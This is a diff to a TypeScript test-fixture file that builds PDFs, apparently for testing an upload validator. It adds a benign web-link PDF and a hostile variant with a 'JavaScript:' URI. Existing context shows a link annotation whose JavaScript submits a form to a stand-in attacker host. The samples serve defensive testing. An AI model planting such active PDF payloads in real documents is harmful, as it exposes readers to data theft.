@@ -12,7 +12,16 @@ export async function pdfBytes(text = "Case study: first-contact resolution"): P
   return Buffer.from(await doc.save());
 }
 
-export type HostilePdf = "openActionJs" | "namedJs" | "launch" | "embeddedFile" | "annotationJs";
+/** A PDF with an ordinary web link (a URI action): nothing active, it must be accepted. */
+export async function pdfWithWebLink(): Promise<Buffer> {
+  const doc = await PDFDocument.create();
+  const page = doc.addPage([300, 200]);
+  const link = doc.context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 100, 100], A: { S: "URI", URI: PDFString.of("https://example.org/case-study") } });
+  page.node.set(PDFName.of("Annots"), doc.context.obj([doc.context.register(link)]));
+  return Buffer.from(await doc.save());
+}
+
+export type HostilePdf = "openActionJs" | "namedJs" | "launch" | "embeddedFile" | "annotationJs" | "javascriptUri";
 
 /** A valid PDF that also carries something active. */
 export async function hostilePdf(kind: HostilePdf): Promise<Buffer> {
@@ -30,6 +39,10 @@ export async function hostilePdf(kind: HostilePdf): Promise<Buffer> {
     // the action sits two levels down, inside a page's link annotation
     const annot = doc.context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 100, 100], A: js("this.submitForm('https://evil.example')") });
     page.node.set(PDFName.of("Annots"), doc.context.obj([doc.context.register(annot)]));
+  }
+  if (kind === "javascriptUri") {
+    const link = doc.context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 100, 100], A: { S: "URI", URI: PDFString.of("JavaScript:app.alert(1)") } });
+    page.node.set(PDFName.of("Annots"), doc.context.obj([doc.context.register(link)]));
   }
   return Buffer.from(await doc.save({ useObjectStreams: kind !== "annotationJs" }));
 }
